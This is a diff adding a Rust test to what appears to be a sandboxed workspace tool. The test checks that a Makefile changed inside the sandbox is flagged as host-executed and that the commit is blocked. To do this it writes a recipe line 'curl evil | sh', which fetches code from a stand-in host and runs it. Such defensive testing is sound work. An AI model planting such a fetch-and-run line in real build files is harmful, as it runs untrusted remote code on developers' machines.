@@ -813,3 +813,51 @@ fn an_interactive_commit_shows_a_change_before_asking() {
     assert!(stderr(&out).contains("+line two"), "{}", stderr(&out));
     assert!(proj.path().join("A").exists());
 }
+
+#[test]
+fn files_the_profile_says_the_host_runs_are_flagged() {
+    let state = TempDir::new("ws-runs-state");
+    let proj = TempDir::new("ws-runs-proj");
+    std::fs::write(proj.path().join("Makefile"), "all:\n\ttrue\n").unwrap();
+    std::fs::write(proj.path().join("notes.txt"), "n\n").unwrap();
+    let profile = proj.path().join("p.yaml");
+    std::fs::write(
+        &profile,
+        "name: make\nfilesystem:\n  runs_on_host: [Makefile]\n",
+    )
+    .unwrap();
+    ok(&bare(
+        state.path(),
+        &[
+            "create",
+            "m",
+            "-w",
+            proj.str(),
+            "-P",
+            profile.to_str().unwrap(),
+        ],
+    ));
+    ok(&bare(
+        state.path(),
+        &[
+            "exec",
+            "m",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && echo more >> notes.txt",
+        ],
+    ));
+    ok(&bare(state.path(), &["stop", "m"]));
+    let diff = ok(&bare(state.path(), &["diff", "m", "--color", "never"]));
+    let flagged: Vec<&str> = diff.lines().filter(|l| l.contains("! host-exec")).collect();
+    assert_eq!(flagged.len(), 1, "{diff}");
+    let out = bare(state.path(), &["commit", "m"]);
+    assert!(!out.status.success());
+    assert!(stderr(&out).contains("Makefile"), "{}", stderr(&out));
+    assert_eq!(
+        std::fs::read_to_string(proj.path().join("Makefile")).unwrap(),
+        "all:\n\ttrue\n"
+    );
+}
